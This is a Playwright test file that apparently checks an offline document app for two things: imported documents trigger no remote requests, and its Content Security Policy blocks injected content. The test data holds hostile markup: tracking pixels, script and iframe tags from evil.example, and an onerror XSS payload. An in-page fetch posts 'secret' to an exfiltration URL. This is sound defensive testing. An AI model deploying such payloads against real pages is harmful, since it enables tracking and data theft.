/**
 * The offline guarantee in Chromium (issue 7): the app page, doing a user's work on documents
 * full of remote references, requests nothing but its own origin; and its CSP (APP_CSP, served by
 * the bridge as the app:// handler serves it) blocks remote images, fetches and scripts injected
 * into the page. Every request that would leave the machine is also aborted and recorded by a
 * route, so the test itself never touches the network.
 */
import type { Page, Request } from '@playwright/test';
import path from 'node:path';
import { connectPage } from './bridge.ts';
import { expect, test } from './fixtures.ts';

const HOSTILE_MARKDOWN = `# Leaked notice from the county office

![tracking pixel](https://tracker.example/pixel.gif?reader=1)

<img src="https://tracker.example/inline.png"><script src="https://evil.example/x.js"></script>
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/style.css">

Officials were told to report on [families abroad](https://evil.example/link) every week.
`;

const HOSTILE_TEXT = `Witness statement

She said the police came at night. See http://evil.example/a.png and <img src=x onerror="fetch('https://evil.example/onerror')">.`;

interface Traffic {
  all: string[];
  foreign: string[];
  /** Foreign requests that got past the page to the network layer (our route aborted them). */
  reachedNetwork: string[];
  /** Why each failed request failed (Chromium's blocked reason "csp" when the page's CSP stopped it). */
  failures: Map<string, string>;
}

/** Records every request the page makes and aborts any that is not the renderer's own origin. */
async function watchTraffic(page: Page, origin: string): Promise<Traffic> {
  const traffic: Traffic = { all: [], foreign: [], reachedNetwork: [], failures: new Map() };
  const isOwn = (url: string) => url.startsWith(`${origin}/`) || url.startsWith('data:') || url.startsWith('blob:');
  page.on('request', (request: Request) => {
    traffic.all.push(request.url());
    if (!isOwn(request.url())) traffic.foreign.push(request.url());
  });
  page.on('requestfailed', (request: Request) => traffic.failures.set(request.url(), request.failure()?.errorText ?? '?'));
  await page.route(
    (url) => !isOwn(url.href),
    (route) => {
      traffic.reachedNetwork.push(route.request().url());
      return route.abort('blockedbyclient');
    },
  );
  return traffic;
}

test('the app requests nothing but its own origin while importing, searching and reading hostile documents', async ({
  page,
  tmp,
  rendererUrl,
  makeFiles,
}) => {
  const origin = new URL(rendererUrl).origin;
  const traffic = await watchTraffic(page, origin);
  const bridge = await connectPage(page, path.join(tmp, 'workspace'));
  try {
    await page.goto(rendererUrl);
    bridge.pickedFiles = makeFiles({ 'notice.md': HOSTILE_MARKDOWN, 'witness.txt': HOSTILE_TEXT });
    await page.getByRole('button', { name: 'Import…' }).click();
    await expect(page.getByRole('status')).toContainText('Imported 2');

    await page.getByRole('searchbox', { name: 'Search documents' }).fill('families');
    const results = page.getByRole('region', { name: 'Search results' });
    await results.getByRole('button', { name: /Leaked notice/ }).click();
    await expect(page.getByRole('article')).toContainText('every week');
    const library = page.getByRole('list', { name: 'Library' });
    await library.getByRole('button', { name: /Witness statement/ }).click();
    await expect(page.getByRole('article')).toContainText('police came at night');
    // The hostile markup is text, never live: no element of it exists in the page.
    expect(await page.locator('article img, article script, article iframe, article link').count()).toBe(0);
    await page.waitForLoadState('networkidle');
  } finally {
    bridge.app.close();
  }
  console.log(`offline: ${traffic.all.length} requests, all from ${origin}; ${traffic.foreign.length} foreign`);
  expect(traffic.foreign).toEqual([]);
  expect(traffic.reachedNetwork).toEqual([]);
  expect(traffic.all.length).toBeGreaterThan(0);
  for (const url of traffic.all)
    expect(url.startsWith(`${origin}/`) || url.startsWith('data:') || url.startsWith('blob:'), url).toBe(true);
});

test('the app CSP blocks a remote image, fetch, script, frame and inline script injected into the page', async ({
  page,
  bridge,
  rendererUrl,
}) => {
  void bridge;
  const origin = new URL(rendererUrl).origin;
  const traffic = await watchTraffic(page, origin);
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    // Violation reports arrive asynchronously: wait for one of each expected kind, not for a fixed time.
    const expected = ['img-src', 'script-src-elem', 'connect-src', 'frame-src'];
    let allReported: () => void = () => undefined;
    const reported = new Promise<void>((resolve) => (allReported = resolve));
    document.addEventListener('securitypolicyviolation', (e) => {
      violations.push(`${e.effectiveDirective} ${e.blockedURI}`);
      if (expected.every((d) => violations.some((v) => v.startsWith(`${d} `)))) allReported();
    });
    const img = document.createElement('img');
    const imgLoaded = new Promise<string>((resolve) => {
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
    });
    img.src = 'https://tracker.example/pixel.gif';
    document.body.append(img);
    const script = document.createElement('script');
    const scriptRan = new Promise<string>((resolve) => {
      script.onload = () => resolve('loaded');
      script.onerror = () => resolve('blocked');
    });
    script.src = 'https://evil.example/x.js';
    document.body.append(script);
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.body.append(inline);
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/frame';
    document.body.append(frame);
    let fetched = 'blocked';
    try {
      await fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'secret' });
      fetched = 'sent';
    } catch {
      fetched = 'blocked';
    }
    let socket: string;
    try {
      const ws = new WebSocket('wss://evil.example/socket');
      socket = await new Promise<string>((resolve) => {
        ws.onopen = () => resolve('opened');
        ws.onerror = () => resolve('blocked');
      });
    } catch {
      socket = 'blocked';
    }
    const results = {
      img: await imgLoaded,
      script: await scriptRan,
      fetched,
      socket,
      inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
    };
    await reported;
    return { ...results, violations };
  });
  expect(outcome.img).toBe('blocked');
  expect(outcome.script).toBe('blocked');
  expect(outcome.fetched).toBe('blocked');
  expect(outcome.socket).toBe('blocked');
  expect(outcome.inlineRan).toBe(false);
  const directives = new Set(outcome.violations.map((v) => v.split(' ')[0]));
  for (const d of ['img-src', 'script-src-elem', 'connect-src', 'frame-src'])
    expect(directives, outcome.violations.join('\n')).toContain(d);
  // CSP stops them in the renderer: Chromium still reports some as requests, failed with
  // blocked reason "csp", but not one reached the network layer.
  expect(traffic.reachedNetwork).toEqual([]);
  for (const url of traffic.foreign) expect(traffic.failures.get(url), url).toBe('csp');
  console.log(
    `offline CSP: ${outcome.violations.length} violations (${[...directives].join(', ')}); ${traffic.foreign.length} foreign requests reported, all failed as blocked by CSP; 0 reached the network`,
  );
});

test('the sanitised original view and the report preview load nothing remote', async ({ page, tmp, rendererUrl, makeFiles }) => {
  const origin = new URL(rendererUrl).origin;
  const traffic = await watchTraffic(page, origin);
  const bridge = await connectPage(page, path.join(tmp, 'workspace'));
  try {
    await page.goto(rendererUrl);
    bridge.pickedFiles = makeFiles({
      'notice.html': `<html><head><title>County notice</title><link rel="stylesheet" href="https://evil.example/s.css">
        <style>body { background: url(https://tracker.example/bg.png) }</style></head>
        <body><article><h1>County notice</h1>
        <p>Officials must report on <a href="https://evil.example/x">families abroad</a> every week.</p>
        <img src="https://tracker.example/pixel.gif" srcset="https://tracker.example/2x.gif 2x">
        <video poster="https://tracker.example/poster.jpg"></video>
        <p style="background-image:url(https://tracker.example/p.png)">Contact the office at +86 991 123 4567.</p>
        </article></body></html>`,
    });
    await page.getByRole('button', { name: 'Import…' }).click();
    await expect(page.getByRole('status')).toContainText('Imported 1');
    const [doc] = await bridge.app.handlers['documents:list']({});
    const full = await bridge.app.handlers['documents:get']({ id: doc!.id });
    const start = full.text.indexOf('Officials must report');
    const passage = await bridge.app.handlers['passages:create']({
      documentId: doc!.id,
      start,
      end: start + 'Officials must report on families abroad every week.'.length,
      tagNames: ['Surveillance'],
    });
    await bridge.app.handlers['reports:create']({ title: 'Offline preview', fromTagIds: passage.tagIds });

    await page.getByRole('list', { name: 'Library' }).getByRole('button', { name: /County notice/ }).click();
    await page.getByRole('button', { name: 'Show original' }).click();
    await expect(page.frameLocator('iframe.original-view').getByText('every week')).toBeVisible();

    await page.getByRole('button', { name: 'Reports' }).click();
    await page.getByRole('button', { name: /Offline preview/ }).click();
    await page.getByRole('tab', { name: 'Preview' }).click();
    await expect(page.frameLocator('iframe[title="Report preview"]').getByText(/families abroad/).first()).toBeVisible();
    await page.waitForLoadState('networkidle');
  } finally {
    await bridge.app.close();
  }
  console.log(`offline (original view and report preview): ${traffic.all.length} requests; ${traffic.foreign.length} foreign`);
  expect(traffic.foreign).toEqual([]);
  expect(traffic.reachedNetwork).toEqual([]);
});
